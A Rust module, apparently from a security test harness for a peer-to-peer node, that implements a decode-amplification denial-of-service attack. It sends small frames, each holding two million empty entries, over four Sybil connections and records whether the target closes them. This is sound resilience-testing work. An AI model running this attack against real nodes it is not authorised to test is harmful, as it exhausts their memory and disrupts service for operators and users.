//! Decode amplification: a frame that is small on the wire and huge once decoded.
//!
//! Each identity sends one `NodeQueryResponse` holding two million empty entries: two bytes each on
//! the wire, a 4 MB frame under the 4 MiB limit, but ~84 bytes each as a decoded `Vec` element. A node
//! that decodes the whole list before checking its length spends ~168 MB per frame.

use std::net::SocketAddr;

use dotray_codec::{OutFrame, proto};

use crate::sybil::Sybil;
use crate::{Report, Result};

/// Entries in the hostile list: as many as fit under the default 4 MiB frame limit.
const ENTRIES: usize = 2_000_000;
/// Connections that each send one such frame.
const CONNECTIONS: usize = 4;

/// Runs the attack against `target`.
pub async fn run(target: SocketAddr, report: &mut Report) -> Result<()> {
    let body = proto::NodeQueryResponse { request_id: 1, nodes: vec![proto::NodeInfo::default(); ENTRIES] };
    let frame = OutFrame::encode(&body.into(), usize::MAX)?;
    report.add("frame_bytes", frame.len() as u64);
    let mut sybils = Vec::new();
    for _ in 0..CONNECTIONS {
        let sybil = Sybil::connect(target).await?;
        sybil.send_frame(&frame)?;
        report.add("frames_sent", 1);
        sybils.push(sybil);
    }
    // Give the target time to read (and either refuse or decode) every frame.
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(3);
    let mut closed = 0;
    for mut sybil in sybils {
        closed += u64::from(sybil.serve_until(deadline).await);
        sybil.close().await;
    }
    report.add("closed_by_target", closed);
    Ok(())
}
